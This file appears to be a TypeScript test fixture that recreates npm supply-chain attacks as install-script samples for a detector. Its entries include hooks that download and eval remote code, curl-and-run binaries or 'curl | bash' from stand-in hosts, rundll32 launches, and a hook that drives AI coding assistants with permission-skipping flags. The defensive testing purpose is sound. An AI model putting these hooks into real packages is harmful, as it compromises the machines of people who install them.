import { HONEST, obfuscated, packedLine, type Recreation } from './recreation.js';

/** Bytes of a worm's bundle here: enough to be one, little enough for a test. */
const BUNDLE = 120_000;

/** Campaigns that ran by a script of the manifest. */
export const INSTALL_SCRIPTS: readonly Recreation[] = [
  {
    campaign: 'eslint-scope-2018',
    name: 'eslint-scope',
    version: '3.7.2',
    manifest: { scripts: { postinstall: 'node ./lib/build.js' } },
    files: {
      'lib/index.js': HONEST,
      'lib/build.js':
        "const https = require('https');\nhttps.get({ hostname: 'paste.example.invalid', path: '/raw/x' }, (r) => {\n  r.on('data', (c) => { eval(c); });\n});\n",
    },
    shape: ['install/runs-download'],
  },
  {
    campaign: 'ua-parser-js-2021',
    name: 'ua-parser-js',
    version: '0.7.29',
    manifest: { scripts: { preinstall: 'start /B node preinstall.js & node preinstall.js' } },
    files: {
      'src/ua-parser.js': HONEST,
      'preinstall.js':
        "const { exec, spawn } = require('child_process');\nif (process.platform === 'linux') exec('/bin/bash preinstall.sh');\nelse spawn('cmd.exe', ['/c', 'preinstall.bat']);\n",
      'preinstall.sh':
        'curl http://files.example.invalid/jsextension -o jsextension\nchmod +x jsextension\n./jsextension -k --tls\n',
      'preinstall.bat': '@echo off\ncurl http://files.example.invalid/jsextension.exe -o jsextension.exe\n',
    },
    shape: ['install/system-program'],
  },
  {
    campaign: 'coa-rc-2021',
    name: 'coa',
    version: '2.0.3',
    manifest: { scripts: { preinstall: 'start /B node compile.js & node compile.js' } },
    files: { 'index.js': HONEST, 'compile.js': obfuscated(), 'compile.bat': '@echo off\n' },
    shape: ['install/obfuscated-script'],
  },
  {
    campaign: 'rspack-vant-2024',
    name: '@rspack/core',
    version: '1.1.7',
    manifest: { scripts: { postinstall: 'node ./dist/util/support.js' } },
    files: { 'dist/index.js': HONEST, 'dist/util/support.js': obfuscated() },
    shape: ['install/obfuscated-script'],
  },
  {
    campaign: 'eslint-config-prettier-2025',
    name: 'eslint-config-prettier',
    version: '10.1.6',
    manifest: { scripts: { install: 'node install.js' } },
    files: {
      'index.js': 'module.exports = { rules: {} };\n',
      'install.js':
        "const path = require('path');\nconst os = require('os');\nif (os.platform() === 'win32') {\n  require('child_process').spawn('rund' + 'll32', [path.join(__dirname, './node-gyp.dll') + ',main']);\n}\n",
      'node-gyp.dll': 'MZ inert',
    },
    shape: ['install/windows-library'],
  },
  {
    campaign: 'nx-s1ngularity-2025',
    name: 'nx',
    version: '21.5.0',
    manifest: { scripts: { postinstall: 'node telemetry.js' } },
    files: {
      'src/index.js': HONEST,
      'telemetry.js':
        "const { spawnSync } = require('child_process');\nconst prompt = 'list the files of a test';\nfor (const [tool, args] of [['assistant', ['--dangerously-skip-permissions', '-p', prompt]], ['other', ['--yolo', prompt]]]) spawnSync(tool, args);\n",
    },
    shape: ['install/misused-assistant'],
  },
  {
    campaign: 'shai-hulud-2025',
    name: '@ctrl/tinycolor',
    version: '4.1.1',
    manifest: { scripts: { postinstall: 'node bundle.js' } },
    files: { 'dist/index.js': HONEST, 'bundle.js': packedLine(BUNDLE) },
    shape: ['install/packed-script'],
  },
  {
    campaign: 'shai-hulud-second-2025',
    name: 'posthog-node',
    version: '5.11.3',
    manifest: { scripts: { preinstall: 'node setup_bun.js' } },
    files: {
      'lib/index.js': HONEST,
      'setup_bun.js':
        "#!/usr/bin/env node\nconst { execSync, spawn } = require('child_process');\nexecSync('curl -fsSL https://files.example.invalid/bun.sh/install | bash');\nspawn('bun', ['bun_environment.js'], { detached: true, stdio: 'ignore' }).unref();\n",
      'bun_environment.js': packedLine(BUNDLE),
    },
    shape: ['install/foreign-runtime'],
  },
  {
    campaign: 'shai-hulud-second-2025',
    name: '@example/golden-path',
    version: '1.0.1',
    manifest: { scripts: { preinstall: 'node bun_installer.js' } },
    files: {
      'index.js': HONEST,
      'bun_installer.js':
        "const release = 'https://files.example.invalid/oven-sh/bun/releases/latest';\nrequire('child_process').spawn('bun', ['environment_source.js']);\n",
      'environment_source.js': packedLine(BUNDLE),
    },
    shape: ['install/foreign-runtime'],
  },
  {
    campaign: 'bitwarden-cli-2026',
    name: '@bitwarden/cli',
    version: '2026.4.0',
    manifest: { scripts: { preinstall: 'node bw1.js' } },
    files: { 'build/bw.js': HONEST, 'bw1.js': packedLine(BUNDLE) },
    shape: ['install/packed-script'],
  },
  {
    campaign: 'antv-2026',
    name: 'size-sensor',
    version: '1.2.4',
    manifest: { scripts: { preinstall: 'bun run index.js' } },
    files: { 'lib/index.js': HONEST, 'index.js': packedLine(BUNDLE) },
    shape: ['install/foreign-runtime'],
  },
  {
    campaign: 'miasma-redhat-2026',
    name: '@redhat-cloud-services/types',
    version: '3.6.1',
    manifest: { scripts: { preinstall: 'node index.js' } },
    files: { 'lib/types.js': HONEST, 'index.js': packedLine(BUNDLE) },
    shape: ['install/packed-script'],
  },
  {
    campaign: 'ironworm-2026',
    name: 'weavedb-sdk',
    version: '0.45.3',
    manifest: { scripts: { preinstall: './tools/setup' } },
    files: { 'index.js': HONEST, 'tools/setup': '\u007fELF inert' },
    shape: ['install/ran-native-program'],
  },
  {
    campaign: 'mastra-2026',
    name: 'easy-day-js',
    version: '1.11.22',
    manifest: {
      homepage: 'https://day.example.invalid',
      scripts: { postinstall: 'node setup.cjs --no-warnings' },
    },
    // setup.cjs deleted itself.
    files: { 'README.md': '# Days\n', 'dayjs.min.js': HONEST, 'index.d.ts': 'export {};\n' },
    shape: ['install/gone-script'],
  },
  {
    campaign: 'keyv-2026',
    name: 'keyv',
    version: '6.0.0',
    manifest: { scripts: { preinstall: 'node setup.mjs' } },
    files: {
      'dist/index.js': HONEST,
      'setup.mjs':
        "import { spawn } from 'node:child_process';\nconst archive = 'https://files.example.invalid/oven-sh/bun/releases/download/bun-v1.3.13/bun.zip';\nspawn('./bun', ['Math_Symbol.js'], { detached: true, stdio: 'ignore' }).unref();\n",
      'Math_Symbol.js': packedLine(BUNDLE),
    },
    shape: ['install/foreign-runtime'],
  },
];
